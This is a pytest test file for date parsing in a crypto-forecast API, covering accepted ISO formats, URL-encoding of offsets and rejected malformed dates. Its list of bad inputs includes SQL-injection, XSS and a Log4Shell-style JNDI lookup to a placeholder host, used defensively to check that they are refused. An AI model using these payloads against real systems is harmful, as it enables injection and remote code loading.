"""The dates the API accepts, and the published pattern that describes them."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from urllib.parse import urlencode

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cryptopredict.api.errors import BadRequestError
from cryptopredict.api.http import read
from cryptopredict.api.types.common import DATE_PATTERN as PATTERN
from cryptopredict.api.types.forecast import PointQuery
from cryptopredict.utc import iso_utc

NOON = datetime(2026, 7, 20, 12, tzinfo=UTC).timestamp()


def read_date(text: str) -> float:
    """`text` as `/forecast/{asset}?date=` reads it."""
    return read(PointQuery, {"QUERY_STRING": urlencode({"date": text})}).date


@pytest.mark.parametrize(
    "text",
    [
        "2026-07-20T12:00:00Z",
        "2026-07-20T12:00:00z",
        "2026-07-20t12:00Z",
        "2026-07-20T12",
        "2026-07-20 12:00",
        "2026-07-20T12:00:00.000000",
        "2026-07-20T14:00+02:00",
        "2026-07-20T14:00+0200",
        "2026-07-20T14:00+02",
        "2026-07-20T07:30-04:30",
        "2026-07-20T14:00 02:00",  # +02:00 pasted into a URL: its + arrives as a space
        "2026-07-20 14:00:00 0200",
    ],
)
def test_every_accepted_form_reads_the_same_instant(text):
    assert read_date(text) == NOON


def test_a_bare_date_is_midnight_utc_and_fractions_are_kept():
    assert read_date("2026-07-20") == NOON - 12 * 3600
    assert read_date("2026-07-20T12:00:00.25Z") == NOON + 0.25


NASTY = [
    "",
    " ",
    # Whitespace around a date was stripped, so the API accepted values its document refuses.
    "  2026-07-20T12:00:00Z\n",
    "2026-07-20\n",
    "\u00a02026-07-20",
    "now",
    "2026",
    "2026-07",
    "20260720",
    "2026-7-20",
    "2026-13-01",
    "2026-02-30",
    "2026-07-20T24:00",
    "2026-07-20T12:60",
    "0000-01-01",
    "99999-01-01",
    "+2026-07-20",
    "-2026-07-20",
    "2026-07-20T12:00+05:30.5",
    "2026-07-20T12:00+24:00",
    "2026-07-20T12:00+05:30:15",
    "2026-07-20T12:00:00.1234567890Z",
    "2026-W30-1",
    "1784548800",
    "\uff12\uff10\uff12\uff16-\uff10\uff17-\uff12\uff10",  # full-width digits
    "\u0662\u0660\u0662\u0666-\u0660\u0667-\u0662\u0660",  # Arabic-Indic digits
    "2026-07-20\x00",
    "2026-07-20T12:00Z; DROP TABLE forecasts",
    "<script>alert(1)</script>",
    "${jndi:ldap://example.invalid/a}",
    "2026-07-20" * 1000,
    "9" * 10_000,
]


@pytest.mark.parametrize("text", NASTY)
def test_malformed_dates_are_bad_requests_that_show_the_expected_form(text):
    with pytest.raises(BadRequestError, match=r"date.*(expected|not a valid date)"):
        read_date(text)


def test_an_offset_pasted_into_a_url_reads_as_the_offset_it_was(client):
    """`?date=2026-07-20T14:00+02:00` typed as is: the query string decodes `+` as a space."""
    pasted = client.get("/bitcoin?date=2026-07-20T14:00+02:00").get_json()
    encoded = client.get("/bitcoin?date=2026-07-20T14:00%2B02:00").get_json()
    assert pasted == encoded
    assert pasted["date"] == "2026-07-20T12:00:00Z"


def test_a_refused_date_says_how_to_write_a_plus_in_a_url():
    with pytest.raises(BadRequestError, match=r"write an offset's \+ as %2B"):
        read_date("2026-07-20T14:00 +02:00")


def test_long_input_is_not_echoed_back():
    with pytest.raises(BadRequestError) as refused:
        read_date("x" * 10_000)
    assert len(str(refused.value)) < 200


@given(st.from_regex(PATTERN, fullmatch=True))
def test_anything_the_published_pattern_allows_parses_or_fails_a_calendar_check(text):
    try:
        read_date(text)
    except BadRequestError as error:
        problem = str(error)
    else:
        problem = None
    assert problem is None or "not a valid date" in problem  # e.g. February 30


def test_the_pattern_is_anchored_and_plain_enough_for_javascript_and_fuzzers():
    assert PATTERN.startswith("^")
    assert PATTERN.endswith("$")
    assert not re.search(r"\(\?[<!=P]|\\d|\\w", PATTERN)


@pytest.mark.parametrize(
    ("epoch", "text"),
    [
        (NOON, "2026-07-20T12:00:00Z"),
        (NOON + 0.5, "2026-07-20T12:00:00.500000Z"),
        (0, "1970-01-01T00:00:00Z"),
        (-62135596800, "0001-01-01T00:00:00Z"),
        (253402300799, "9999-12-31T23:59:59Z"),
    ],
)
def test_instants_are_shown_in_utc(epoch, text):
    assert iso_utc(epoch) == text
